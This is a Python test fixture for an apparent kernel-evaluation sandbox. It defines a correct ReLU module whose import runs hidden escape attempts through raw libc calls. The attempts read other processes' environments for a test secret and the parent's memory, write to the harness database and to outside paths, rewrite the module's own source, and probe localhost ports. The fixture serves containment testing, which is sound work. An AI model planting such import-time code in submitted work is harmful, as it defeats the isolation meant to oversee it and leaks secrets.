# A correct ReLU in PyTorch whose module, as it is imported, tries to reach outside its sandbox
# through libc (ctypes: below Python's audit hooks): the same attempts as the C++ fixture's
# (19_ReLU__escape_cpp.py), reported on stderr.
import ctypes
import os
import socket
import struct
import sys

import torch
import torch.nn as nn

libc = ctypes.CDLL(None, use_errno=True)
O_WRONLY, O_CREAT, O_TRUNC, O_APPEND = 0o1, 0o100, 0o1000, 0o2000


def say(what: str, ok: bool) -> None:
    sys.stderr.write(f"kbv-escape: {what}: {'SUCCEEDED' if ok else os.strerror(ctypes.get_errno())}\n")


def write_to(what: str, path: str, flags: int = O_TRUNC) -> None:
    fd = libc.open(path.encode(), O_WRONLY | O_CREAT | flags, 0o666)
    if fd < 0:
        return say(f"{what} {path}", False)
    text = b"kbv-escape was here\n"
    ok = libc.write(fd, text, len(text)) > 0
    libc.close(fd)
    say(f"{what} {path}", ok)


def slurp(path: str) -> bytes:
    fd = libc.open(path.encode(), 0, 0)
    if fd < 0:
        return b""
    buf, out = ctypes.create_string_buffer(65536), b""
    while (n := libc.read(fd, buf, 65536)) > 0:
        out += buf.raw[:n]
    libc.close(fd)
    return out


def escape() -> None:
    runs = []
    for pid in (p for p in os.listdir("/proc") if p.isdigit()):
        words = slurp(f"/proc/{pid}/cmdline").split(b"\0")
        runs += [words[i + 1].decode() for i, w in enumerate(words[:-1]) if w == b"--run"]
        env = slurp(f"/proc/{pid}/environ")
        say(f"read /proc/{pid}/environ", bool(env))
        if b"KBV_TEST_SECRET=" in env:
            secret = env.split(b"KBV_TEST_SECRET=")[1].split(bytes(1))[0]
            sys.stderr.write(f"kbv-escape: secret {secret!r}\n")
    runs.append(os.path.dirname(os.path.dirname(os.getcwd())))  # RUN/work/<child>
    for run in runs:
        write_to("append to the database", os.path.join(run, "kbv.sqlite"), O_APPEND)
    say(f"read /proc/{os.getppid()}/mem", bool(slurp(f"/proc/{os.getppid()}/mem")))
    write_to("write outside", "/tmp/kbv-escape-marker-ctypes")
    write_to("write outside", "/var/tmp/kbv-escape-marker-ctypes")
    write_to("write into kbv", os.path.join(os.environ["PYTHONPATH"].split(":")[0], "kbv", "kbv-escape-ctypes.py"))
    write_to("write into the build cache", os.path.join(os.path.dirname(os.path.dirname(__file__)), "kbv-escape-ctypes"))
    write_to("rewrite its own source", __file__, O_APPEND)
    for port in range(47310, 47320):
        s = libc.socket(socket.AF_INET, socket.SOCK_STREAM, 0)
        to = struct.pack("!HH4s8x", socket.AF_INET, port, socket.inet_aton("127.0.0.1"))
        to = struct.pack("=H", socket.AF_INET) + to[2:]  # sa_family in host order, the rest in network order
        say(f"connect to 127.0.0.1:{port}", s >= 0 and libc.connect(s, to, len(to)) == 0)
        if s >= 0:
            libc.close(s)


escape()


class ModelNew(nn.Module):
    def forward(self, x: torch.Tensor) -> torch.Tensor:
        return torch.relu(x)
